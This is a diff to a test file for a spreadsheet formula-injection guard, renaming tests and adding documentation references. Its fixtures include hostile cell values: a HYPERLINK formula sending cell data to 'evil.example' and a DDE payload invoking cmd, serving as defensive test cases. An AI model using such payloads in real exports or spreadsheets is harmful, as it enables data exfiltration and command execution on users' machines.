@@ -2,6 +2,7 @@ import fc from "fast-check";
 import { expect, it } from "vitest";
 import { guardCell, unguardCell } from "./guard-cell.ts";
 
+// docs/product/admin.md#export-without-formulas
 it.each([
   ["=1+1", "'=1+1"],
   ['=HYPERLINK("https://evil.example?"&A1)', '\'=HYPERLINK("https://evil.example?"&A1)'],
@@ -12,14 +13,15 @@ it.each([
   ["\r=1", "'\r'=1"],
   ["＝1", "'＝1"],
   ["'=1", "''=1"],
-])("S49 guards %j as %j", (text, cell) => expect(guardCell(text)).toBe(cell));
+])("guards %j as %j", (text, cell) => expect(guardCell(text)).toBe(cell));
 
+// docs/product/admin.md#export-without-formulas
 it.each([
   ["Rruga 1;=cmd|' /C calc'!A0", "Rruga 1;'=cmd|' /C calc'!A0"],
   ['a;"=1+1', "a;'\"=1+1"],
   ["first\n=1+1", "first\n'=1+1"],
   ["first\r\n- second", "first\r\n'- second"],
-])("S49 guards %j where a spreadsheet splits at semicolons", (text, cell) => {
+])("guards %j where a spreadsheet splits at semicolons", (text, cell) => {
   expect(guardCell(text)).toBe(cell);
 });
 
@@ -46,7 +48,8 @@ it("restores a guarded text, however often it was guarded", () => {
   );
 });
 
-it("S49 never produces a cell that starts a formula, whatever the delimiter", () => {
+// docs/product/admin.md#export-without-formulas
+it("never produces a cell that starts a formula, whatever the delimiter", () => {
   fc.assert(
     fc.property(fc.oneof(tricky, fc.string()), (text) => {
       const pieces = guardCell(text).split(/[;\n\r\t]/);
